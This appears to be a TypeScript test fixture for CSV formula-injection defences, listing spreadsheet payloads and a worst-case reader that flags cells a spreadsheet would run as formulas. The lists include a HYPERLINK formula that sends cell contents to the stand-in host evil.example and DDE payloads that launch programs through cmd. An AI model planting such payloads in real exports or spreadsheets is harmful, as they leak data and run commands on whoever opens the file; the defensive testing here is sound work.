// Cells a spreadsheet would run as formulas (or strip to one).
export const INJECTION_PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  "=cmd|' /C notepad'!'A1'",
];

// Text that is harmless as one cell but holds a formula behind a separator or
// line break: live when a reader splits the file on another separator (a
// Russian-locale Excel splits a comma file on semicolons) or breaks rows on CR.
export const CROSS_SEPARATOR_PAYLOADS = [
  'Alpha;=1+1',
  'Alpha,=HYPERLINK("http://evil.example/","x")',
  'Alpha\t@SUM(A1:A2)',
  'Alpha\r=2+2',
  'Alpha\r\n+3+3',
  'Alpha\n-4+4',
  'Alpha; -5+5',
  'Alpha;"=6+6"',
  'a";=7+7;"b',
  '\uFF1D8+8',
  'Alpha,\uFF0B9+9',
  'Alpha;\uFF20SUM(A1)',
];

const FORMULA_START = /^[=+\-@\t\0\uFF1D\uFF0B\uFF0D\uFF20]/;
const NUMBER = /^-?\d+([.,]\d+)?([eE][+-]?\d+)?$/;

/**
 * A worst-case spreadsheet reader: it ignores quoting, breaks rows on CR or LF,
 * splits on `sep` and skips leading spaces and quotes. Returns every piece it
 * would read as a formula (a bare number such as -3 is a number, not a formula).
 */
export function livePieces(csv: string, sep: string): string[] {
  const live: string[] = [];
  for (const line of csv.replace(/^\uFEFF/, '').split(/\r\n|\r|\n/)) {
    for (const piece of line.split(sep)) {
      const p = piece.replace(/^[ \u00a0"]+/, '');
      if (FORMULA_START.test(p) && !NUMBER.test(p)) live.push(p);
    }
  }
  return live;
}
